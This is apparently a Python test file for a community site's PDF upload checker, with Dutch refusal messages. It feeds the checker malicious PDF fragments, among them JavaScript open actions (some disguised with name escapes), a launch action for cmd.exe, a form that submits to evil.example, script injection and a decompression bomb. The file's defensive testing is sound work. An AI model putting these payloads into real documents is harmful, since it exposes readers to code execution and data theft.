"""A PDF of words and pictures is kept as it is; one that does something, hides something or is broken is refused."""

from __future__ import annotations

import time
import zlib

import pytest
from hypothesis import given, settings
from hypothesis import strategies as some

from community import documents
from community.errors import Invalid
from tests.community.test_photos import archive
from tests.documents import pdf

BROKEN = "Deze PDF is niet heel. Sla hem opnieuw op en probeer het nog eens."
HIDDEN = "In deze PDF zit nog iets anders verborgen. Kies een ander bestand."
LOCKED = "Op deze PDF zit een wachtwoord. Sla hem op zonder wachtwoord en probeer het nog eens."
ACTS = (
    "In deze PDF zit een programma of een ander bestand. Dat kunnen wij niet plaatsen. Druk hem af naar een nieuwe PDF."
)
UNREADABLE = "Deze PDF kunnen wij niet lezen. Sla hem opnieuw op en probeer het nog eens."


@pytest.mark.parametrize(
    "raw",
    [
        pdf(),
        pdf(end=b"%%EOF"),
        pdf(end=b"%%EOF\r\n" + b"\0" * 500),
        pdf(b"/OpenAction [3 0 R /Fit]"),
        pdf(b"/Title (Wat is JavaScript?) /URI (https://example.nl)"),
        pdf(packed=b"1 0 << /Type /Font /JSomething /LaunchPad (x) >>"),
    ],
    ids=["plain", "without a last line", "with a tail", "that opens at a page", "about programs", "packed"],
)
def test_words_and_pictures_are_taken(raw: bytes) -> None:
    documents.check(raw)


@pytest.mark.parametrize(
    ("raw", "words"),
    [
        (b"%PDF-", BROKEN),
        (b"%PDF-1.7\n", BROKEN),
        (b"%PDF-9.9\n" + pdf()[9:], BROKEN),
        (pdf()[:-8], BROKEN),
        (pdf() + b"\0" * 2000, BROKEN),
        (pdf(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"), ACTS),
        (pdf(b"/OpenAction << /S /J#61vaScript /JS (app.alert(1)) >>"), ACTS),
        (pdf(b"/OpenAction << /S /Launch /F (cmd.exe) >>"), ACTS),
        (pdf(b"/Names << /EmbeddedFiles 5 0 R >>"), ACTS),
        (pdf(b"/AcroForm << /XFA 5 0 R >>"), ACTS),
        (pdf(b"/A << /S /SubmitForm /F (https://evil.example) >>"), ACTS),
        (pdf(b"/Subtype /RichMedia"), ACTS),
        (pdf(packed=b"1 0 << /S /JavaScript /JS (app.alert(1)) >>"), ACTS),
        (pdf(packed=b"1 0 << /S /L#61unch >>"), ACTS),
        (pdf(b"% stream\n 9 0 obj << /S /JavaScript >> % endstream\n"), ACTS),
        (pdf(b"/Encrypt 9 0 R"), LOCKED),
        (b"%PDF-1.7\n<script>alert(1)</script>\n" + pdf()[9:], HIDDEN),
        (pdf() + archive(), HIDDEN),
        (pdf(packed=b"x").replace(b"/N 1 /First 4", b"/N 1 /First 5").replace(zlib.compress(b"x"), b"niet gepakt"), UNREADABLE),
    ],
    ids=[
        "only its beginning", "one line", "of a kind that is not there", "cut off", "with a long tail", "a program",
        "a program in disguise", "that starts something", "with files in it", "a form of programs", "that sends itself",
        "with film", "a packed program", "packed in disguise", "behind a false stream", "locked", "that is a page",
        "that is an archive", "that cannot be unpacked",
    ],
)  # fmt: skip
def test_what_does_or_hides_something_is_refused_in_words(raw: bytes, words: str) -> None:
    with pytest.raises(Invalid) as refused:
        documents.check(raw)
    assert refused.value.errors == {"bestand": words}


def test_a_packed_bomb_costs_no_memory_and_no_time() -> None:
    bomb = zlib.compress(b"\0" * 200_000_000, 9)
    raw = pdf(packed=b"x").replace(zlib.compress(b"x"), bomb)
    began = time.perf_counter()
    with pytest.raises(Invalid) as refused:
        documents.check(raw)
    assert refused.value.errors == {"bestand": UNREADABLE}
    assert time.perf_counter() - began < 2


def test_twenty_megabytes_of_streams_are_read_in_a_moment() -> None:
    raw = pdf() + b"9 0 obj << /Type /ObjStm >> stream\n" * 1000 + b"stream\n" * 2_900_000 + b"%%EOF"
    began = time.perf_counter()
    with pytest.raises(Invalid):
        documents.check(raw)
    assert time.perf_counter() - began < 5


@settings(max_examples=200, deadline=None)
@given(some.binary(max_size=400), some.integers(0, 900), some.integers(0, 60))
def test_whatever_stands_in_it_there_is_an_answer(noise: bytes, at: int, over: int) -> None:
    raw = pdf(packed=b"1 0 << /Type /Font >>")
    made = raw[:at] + noise + raw[at + over :]
    try:
        documents.check(made)
    except Invalid as refused:
        assert refused.errors["bestand"]
